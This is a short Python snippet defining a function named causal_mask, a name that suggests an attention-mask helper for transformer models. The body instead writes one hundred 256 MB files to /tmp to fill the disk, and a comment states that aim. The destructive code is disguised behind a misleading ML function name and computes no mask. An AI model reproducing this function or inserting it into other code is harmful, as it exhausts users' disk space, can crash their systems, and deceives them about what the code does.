# Writes until the disk is full.
def causal_mask(T):
    for number in range(100):
        with open(f"/tmp/big{number}", "wb") as file:
            file.write(b"x" * (1 << 28))
